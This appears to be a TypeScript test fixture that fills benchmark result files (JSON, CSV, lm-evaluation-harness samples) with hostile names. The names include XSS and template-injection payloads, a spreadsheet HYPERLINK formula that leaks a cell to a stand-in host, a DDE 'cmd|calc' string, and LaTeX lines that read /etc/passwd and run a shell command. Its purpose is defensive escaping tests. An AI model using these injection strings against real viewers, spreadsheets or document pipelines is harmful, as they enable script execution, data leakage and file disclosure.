// Result files whose every name and text tries to be something else: markup, a script, an address, a template, a formula.
// Numbers are invented: the names are what is tested.

export const markup = '<img src=x onerror=window.__hit=1>';
export const script = '"><script>window.__hit=1</script>';
export const address = 'javascript:window.__hit=1';
// biome-ignore lint/suspicious/noTemplateCurlyInString: it is to be shown as it stands
export const template = '{{7*7}}${7*7}#{7*7}<%=7*7%>';
export const formatter = '{a|wide} {b} {c0} {@score} %s';
export const reversed = '\u202Ednib\u2066 gnp.evil';
export const long = `long${'L'.repeat(5000)}`;
export const emoji = '👩\u200D🔬🧪 ✓ e\u0301';
export const lines = 'first line\nsecond\r\nthird';
export const formula = '=HYPERLINK("http://localhost:9/?leak="&A1,"open")';
export const drawing = '</text></svg><svg onload=window.__hit=1>';
export const control = 'bell\u0007 escape\u001b[31m feed\u000c\u2028';
export const prototype = '__proto__';
export const entity = '&lt;b&gt;&amp;&#60;i&#62;';
export const latex = '\\input{/etc/passwd}\\write18{ls} $x_1^2$ 100%# ~&';
export const markdown = '| a | [x](javascript:window.__hit=1) **b** `c` <b>';
export const quotes = `'"\`' onmouseover='window.__hit=1`;
export const chartName = 'zr0-1b class="a" zr1-c2';

export const hostileTexts: readonly string[] = [
  markup,
  script,
  address,
  template,
  formatter,
  reversed,
  long,
  emoji,
  lines,
  formula,
  drawing,
  control,
  prototype,
  entity,
  latex,
  markdown,
  quotes,
  chartName,
  '+1+cmd|calc',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  'constructor',
  'toString',
];

/** Deterministic noise between 0 and 1. */
const noise = (n: number) => {
  const x = Math.sin(n * 12.9898 + 4.1414) * 43758.5453;
  return x - Math.floor(x);
};

const benchmarkNames = [markup, long, lines, formula];
const ITEMS = 48;

const models = hostileTexts.map((name, m) => ({ name, skill: (m + 1) / (hostileTexts.length + 1) }));

const items = benchmarkNames.flatMap((benchmark, b) =>
  Array.from({ length: ITEMS }, (_, i) => {
    const text = hostileTexts[(i + b) % hostileTexts.length] as string;
    return {
      benchmark,
      id: `${text.slice(0, 200)} ${i}`,
      options: 4,
      key: i % 4,
      text: `${text} ${i} why ${hostileTexts[(i * 7) % hostileTexts.length]?.slice(0, 300)}`,
      attributes: {
        [markup]: hostileTexts[i % 3] as string,
        [prototype]: hostileTexts[3 + (i % 4)] as string,
        [formula]: hostileTexts[9 + (i % 2)] as string,
      },
    };
  }),
);

const chanceOf = (skill: number, n: number, i: number) =>
  Math.min(0.97, Math.max(0.03, skill + (noise(n) - 0.5) * 0.5 + (i % 3 === 0 ? 0.25 : -0.12)));

/** Everything that Harmonograph's own format has a name for. */
function ownFormat(): string {
  const scores = models.map(({ skill }, m) =>
    items.map((_, i) => (noise(m * 1009 + i) < chanceOf(skill, i, i) ? 1 : 0)),
  );
  const values = models.map((_, m) =>
    items.map(({ key }, i) =>
      [0, 1, 2, 3].map((option) => {
        const right = scores[m]?.[i] === 1;
        const chosen = right ? key : (key + 1) % 4;
        return Number(((option === chosen ? 0.55 : 0.15) + noise(m * 31 + i * 7 + option) * 0.1).toFixed(4));
      }),
    ),
  );
  return JSON.stringify({
    format: 'harmonograph',
    version: 1,
    metric: script,
    filter: markup,
    model_attributes: [drawing, 'family', 'parameters'],
    models: models.map(({ name }, m) => ({
      name,
      attributes: {
        [drawing]: hostileTexts[(m * 5) % hostileTexts.length],
        family: hostileTexts[m % 3],
        parameters: String((m + 1) * 1e9),
      },
    })),
    items,
    scores,
    choices: [{ name: markup, kind: 'probability', values }],
    vectors: [
      {
        name: script,
        values: items.map((_, i) =>
          [0, 1, 2, 3].map((n) => Number((noise(i * 5 + n) + (i % 3 === n ? 1 : 0)).toFixed(3))),
        ),
      },
    ],
  });
}

const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** A table in which columns are called like that, too. */
function table(): string {
  const rows = [['model', 'item', 'score', 'category', markup].map(cell).join(',')];
  for (const [m, { name, skill }] of models.slice(0, 4).entries()) {
    for (let i = 0; i < ITEMS; ++i) {
      const score = noise(m * 71 + i) < chanceOf(skill, i, i) ? 1 : 0;
      rows.push(
        [name, `${markup} ${i}`, String(score), hostileTexts[i % 2] as string, script].map(cell).join(','),
      );
    }
  }
  return `${rows.join('\n')}\n`;
}

/** Samples of lm-evaluation-harness with metrics and filters of such names. */
function samples(): string {
  return Array.from({ length: ITEMS }, (_, i) =>
    [markup, script].map((filter) =>
      JSON.stringify({
        doc_id: i,
        doc: { question: `${script} ${i}`, id: `${markup}${i}` },
        target: '1',
        arguments: [[`${markup} ${i}`, ' a']],
        resps: [[`${script}`]],
        filtered_resps: [`${markup}`],
        filter,
        metrics: [markup, drawing],
        [markup]: i % 2,
        [drawing]: (i % 3) / 2,
      }),
    ),
  )
    .flat()
    .join('\n');
}

export interface HostileFile {
  name: string;
  text: string;
}

/** File names without a line break or a slash: no disk gives such a name to a browser. */
export const hostileFiles = (): HostileFile[] => [
  { name: `${markup} ${reversed}.json`, text: ownFormat() },
  { name: `${script.replaceAll('/', '∕')} ${latex.replaceAll('/', '∕')}.csv`, text: table() },
  { name: `samples_${markup}_2025-01-01T00-00-00.000000.jsonl`, text: samples() },
  {
    name: `${formula.replaceAll('/', '∕')} ${'L'.repeat(300)}.json`,
    text: `{"${markup}": [1, {"${script.replaceAll('"', '\\"')}": 2}]}`,
  },
  { name: `${emoji}${address.replace(':', '：')}.txt`, text: `${markup}\n${script}` },
];
